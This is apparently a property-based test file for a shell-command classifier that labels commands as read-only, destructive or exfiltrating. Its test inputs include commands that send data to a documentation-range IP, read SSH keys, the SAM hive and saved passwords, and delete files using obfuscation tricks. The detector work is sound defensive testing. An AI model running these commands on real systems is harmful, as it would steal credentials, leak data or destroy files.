import fc from 'fast-check'
import { describe, expect, test } from 'vitest'

import {
  commandClasses,
  commandReasons,
  type CommandClass,
  type CommandShell,
} from '../../../shared/domain/command-class.ts'
import { classifyCommand } from './classify-command.ts'
import { soonMs } from '../../../test/fakes/soon.ts'

function classOf(shell: CommandShell, line: string): CommandClass {
  return classifyCommand(shell, line).verdict
}

function isAtLeast(one: CommandClass, other: CommandClass): boolean {
  return commandClasses.indexOf(one) >= commandClasses.indexOf(other)
}

/** Whole lines of each shell and of each class, without a quote left open. */
type LineShell = Exclude<CommandShell, 'python'>
const wholeLines: Readonly<Record<LineShell, readonly string[]>> = {
  cmd: [
    'ipconfig /all',
    'net start',
    'dir C:\\data',
    'net stop Spooler',
    'del /q C:\\data',
    'echo "a & b"',
    'tasklist > x.txt',
    'reg save HKLM\\SAM x.hiv',
    'type C:\\x.txt | find "a"',
    'ping %USERNAME%.leak.example',
  ],
  powershell: [
    'Get-Process',
    "Get-Service | Where-Object { $_.Status -eq 'Running' }",
    'Restart-Service Spooler',
    'Remove-Item C:\\data -Recurse',
    "Write-Output 'a; b'",
    'irm http://198.51.100.7/?d=$env:USERNAME',
    '& $x',
    'Get-Clipboard',
  ],
  posix: [
    'ls -la',
    'df -h',
    'rm -rf x',
    "echo 'a; b'",
    'mkdir x',
    'cat ~/.ssh/id_rsa',
    'curl -d @x http://198.51.100.7/',
  ],
}
const separators: Readonly<Record<LineShell, readonly string[]>> = {
  cmd: [' & ', '&', ' && ', ' || ', ' | ', '\n'],
  powershell: ['; ', ';', ' | ', '\n', ' && '],
  posix: ['; ', ' && ', ' || ', ' | ', '\n', ' & '],
}
const anyShell = fc.constantFrom<LineShell>('cmd', 'powershell', 'posix')
const anyLine = anyShell.chain((shell) => fc.tuple(fc.constant(shell), fc.constantFrom(...wholeLines[shell])))
const anyText = fc.oneof(
  fc.string({ maxLength: 60, unit: 'grapheme' }),
  fc.string({
    maxLength: 40,
    unit: fc.constantFrom(...' "\'`^%$&|;<>(){}[]@!#-/\\=,.*?~\nadelrmGet-Item'.split(/(?:)/)),
  }),
)

test('anything behind a separator never makes a line look milder', () => {
  const anySeparated = anyLine.chain(([shell, line]) =>
    fc.tuple(fc.constant(shell), fc.constant(line), fc.constantFrom(...separators[shell]), anyText),
  )
  fc.assert(
    fc.property(anySeparated, ([shell, line, separator, text]) => {
      expect(isAtLeast(classOf(shell, `${line}${separator}${text}`), classOf(shell, line))).toBe(true)
    }),
    { numRuns: 3000 },
  )
})

function encoded(line: string): string {
  return Buffer.from(line, 'utf16le').toString('base64')
}

test('a shell around a line keeps its class or makes it worse, and never reads', () => {
  for (const line of wholeLines.cmd) {
    const plain = classOf('cmd', line)
    const wrapped = [
      `cmd /c ${line}`,
      `cmd.exe /d /c "${line}"`,
      `%COMSPEC% /k ${line}`,
      `start "" cmd /c ${line}`,
      `call ${line}`,
    ]
    for (const each of wrapped) expect(isAtLeast(classOf('cmd', each), plain), each).toBe(true)
    for (const each of wrapped) expect(classOf('cmd', each), each).not.toBe('read_only')
  }
  for (const line of wholeLines.powershell) {
    const plain = classOf('powershell', line)
    const wrapped = [
      `powershell -NoProfile -Command ${line}`,
      `powershell -enc ${encoded(line)}`,
      `pwsh -EncodedCommand ${encoded(line)}`,
    ]
    for (const shell of ['cmd', 'powershell'] as const)
      for (const each of wrapped) {
        expect(isAtLeast(classOf(shell, each), plain), each).toBe(true)
        expect(classOf(shell, each), each).not.toBe('read_only')
      }
    expect(isAtLeast(classOf('powershell', `& { ${line} }`), plain), line).toBe(true)
    expect(isAtLeast(classOf('powershell', `$( ${line} )`), plain), line).toBe(true)
    expect(isAtLeast(classOf('powershell', `Write-Output "$(${line})"`), plain), line).toBe(true)
  }
  for (const line of wholeLines.posix) {
    const plain = classOf('posix', line)
    for (const each of [
      `bash -c '${line.replaceAll("'", "'\\''")}'`,
      `echo $(${line})`,
      `echo "\`${line}\`"`,
      `sudo ${line}`,
    ]) {
      expect(isAtLeast(classOf('posix', each), plain), each).toBe(true)
      expect(classOf('posix', each), each).not.toBe('read_only')
    }
  }
})

test('quotes around the name and signs that hide it keep the class or make it worse', () => {
  const hidden: readonly (readonly [CommandShell, string])[] = [
    ['cmd', '"del" /q C:\\data'],
    ['cmd', 'd"e"l /q C:\\data'],
    ['cmd', 'd^e^l /q C:\\data'],
    ['cmd', '@del /q C:\\data'],
    ['cmd', ',;=del /q C:\\data'],
    ['cmd', '(del /q C:\\data)'],
    ['cmd', 'DEL/q C:\\data'],
    ['cmd', 'del.exe /q C:\\data'],
    ['cmd', 'dir\ndel /q C:\\data'],
    ['cmd', 'for %i in (1) do @del /q C:\\data'],
    ['cmd', 'if 1==1 (echo a) else del /q C:\\data'],
    ['cmd', 'set x=del& %x% C:\\data'],
    ['powershell', 're`move-item C:\\data'],
    ['powershell', "& 'remove-item' C:\\data"],
    ['powershell', '&"remove-item" C:\\data'],
    ['powershell', ". 'remove-item' C:\\data"],
    ['powershell', 'Get-Process|%{ri C:\\data}'],
    ['powershell', 'Get-Process;ri C:\\data'],
    ['powershell', "iex 'ri C:\\data'"],
    ['powershell', '(ri C:\\data)'],
    ['powershell', '@(ri C:\\data)'],
    ['powershell', '$x = ri C:\\data'],
    ['powershell', 'if ($true) { ri C:\\data }'],
    ['powershell', 'Get-Item C:\\data | % Delete'],
    ['powershell', "(Get-Item C:\\data).'Delete'()"],
    ['powershell', 'Get-Item C:\\data | select @{n=1;e={$_.Delete()}}'],
    ['powershell', 'Get-Process -Name (ri C:\\data)'],
    ['powershell', 'Get-Process # a\nri C:\\data'],
    ['powershell', 'Get-Process -Name @"\n$(ri C:\\data)\n"@'],
    ['posix', '\\rm -rf x'],
    ['posix', "r''m -rf x"],
    ['posix', '/bin/rm -rf x'],
    ['posix', 'X=1 rm -rf x'],
    ['posix', 'true && (rm -rf x)'],
    ['posix', 'if true; then rm -rf x; fi'],
    ['posix', "$'\\x72m' -rf x"],
    ['posix', '$(echo rm) -rf x'],
    ['posix', 'command rm -rf x'],
  ]
  for (const [shell, line] of hidden) expect(isAtLeast(classOf(shell, line), 'destructive'), line).toBe(true)
})

describe('what is not read to its end', () => {
  test.each<[CommandShell, string]>([
    ['cmd', 'dir "C:\\data'],
    ['cmd', 'ipconfig /all /renew_all'],
    ['cmd', 'dir \u202etxt.exe'],
    ['cmd', 'ip\u200bconfig'],
    ['cmd', 'ｉｐｃｏｎｆｉｇ /all'],
    ['cmd', 'ipconfig\u0000'],
    ['cmd', '.\\ipconfig /all'],
    ['cmd', 'C:\\Users\\Public\\ipconfig.exe /all'],
    ['cmd', 'cd C:\\Users\\Public & ipconfig'],
    ['cmd', `echo ${'a'.repeat(9000)}`],
    ['cmd', ''],
    ['cmd', 'set PATH=C:\\evil & ipconfig'],
    ['cmd', 'robocopy C:\\a C:\\b'],
    ['cmd', 'defrag C:'],
    ['powershell', 'Get-Process -Name "a'],
    ['powershell', 'Get-Process (1'],
    ['powershell', "Get-Process 'a"],
    ['powershell', 'using module C:\\x.psm1'],
    ['powershell', 'Get-Process -OutVariable x'],
    ['powershell', 'Get-Process -ComputerName server'],
    ['powershell', 'Get-Foo'],
    ['powershell', '[Evil, C:\\x.dll]'],
    ['powershell', '$env:PATH = "C:\\evil"; ipconfig'],
    ['powershell', 'function Get-Process { ri C:\\data }; Get-Process'],
    ['powershell', 'Set-Alias gps ri; gps C:\\data'],
    ['powershell', 'sc query'],
    ['powershell', "Select-String -Path C:\\*.txt -Pattern 'password'"],
    ['powershell', 'Get-Content \\\\.\\PhysicalDrive0'],
    ['cmd', 'type C:\\Users\\a\\NTUSER.DAT'],
    ['posix', 'grep -ri secret /home'],
    ['posix', 'cat /dev/sda'],
    ['posix', "echo 'a"],
    ['posix', 'PATH=/tmp ls'],
    ['posix', 'alias ls=rm; ls x'],
    ['posix', 'hostname new-name'],
    ['posix', 'uniq in.txt out.txt'],
    ['posix', './ls'],
    ['posix', 'cat <(rm -rf x)'],
  ])('never reads: %s %j', (shell, line) => {
    expect(classOf(shell, line)).not.toBe('read_only')
  })
})

test('every text has an answer whose class is that of its worst reason, and what is not understood never reads', () => {
  fc.assert(
    fc.property(anyShell, anyText, (shell, text) => {
      const { verdict, understood, reasons } = classifyCommand(shell, text)
      const worst = Math.max(...reasons.map(({ code }) => commandClasses.indexOf(commandReasons[code])))
      expect(verdict).toBe(commandClasses[worst])
      if (!understood) expect(verdict).not.toBe('read_only')
      expect(reasons.length).toBeGreaterThan(0)
    }),
    { numRuns: 2000 },
  )
})

test('a reason names its line', () => {
  const { reasons } = classifyCommand('powershell', 'Get-Process\n\nStop-Process -Name a\nRemove-Item C:\\data')
  expect(reasons).toEqual([
    { code: 'deletes_files', line: 4 },
    { code: 'ends_program', line: 3 },
  ])
})

test('a long line of nothing but brackets or operators ends soon', () => {
  for (const sign of ['(', '{', '$(', '"', '&', '|', '%', '`', '@{', "'"]) {
    const line = sign.repeat(Math.floor(7999 / sign.length))
    const started = performance.now()
    for (const shell of ['cmd', 'powershell', 'posix'] as const) expect(classOf(shell, line)).not.toBe('read_only')
    expect(performance.now() - started, sign).toBeLessThan(soonMs)
  }
})

test('a program of Python is never understood, and what it gives away counts', () => {
  const lines: readonly (readonly [string, CommandClass])[] = [
    ['print(1 + 1)', 'modifies'],
    ["open('a.txt', 'w').write('x')", 'modifies'],
    ['import subprocess\nsubprocess.run(["ls"])', 'modifies'],
    ["import shutil\nshutil.rmtree('/data')", 'destructive'],
    ["exec(bytes.fromhex('00'))", 'destructive'],
    ["requests.post('https://x.example', data=d)", 'exfiltrates'],
    ['import os\nprint(os.environ)', 'exfiltrates'],
  ]
  for (const [line, expected] of lines) {
    const { verdict, understood } = classifyCommand('python', line)
    expect([line, verdict, understood]).toEqual([line, expected, false])
  }
})

describe('what programs keep of accounts', () => {
  test.each([
    ['cmd', 'type %APPDATA%\\FileZilla\\sitemanager.xml'],
    ['cmd', 'type C:\\Users\\ann\\.docker\\config.json'],
    ['cmd', 'reg query "HKCU\\Software\\Martin Prikryl\\WinSCP 2\\Sessions" /s'],
    ['powershell', "Get-Content 'C:\\Users\\ann\\AppData\\Roaming\\GitHub CLI\\hosts.yml'"],
    ['posix', 'cat ~/.npmrc'],
    ['posix', 'cat ~/.config/rclone/rclone.conf'],
    ['cmd', 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon"'],
    ['cmd', 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v DefaultPassword'],
    ['powershell', "gp 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon'"],
  ] as const)('%s: %s gives it away', (shell, line) => {
    expect(classOf(shell, line)).toBe('exfiltrates')
  })

  test.each([
    ['cmd', 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell'],
    ['powershell', "Get-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' -Name Shell"],
    ['posix', 'cat package.json'],
    ['cmd', 'dir C:\\Users\\ann\\AppData\\Roaming\\FileZilla'],
  ] as const)('%s: %s does not', (shell, line) => {
    expect(classOf(shell, line)).toBe('read_only')
  })
})
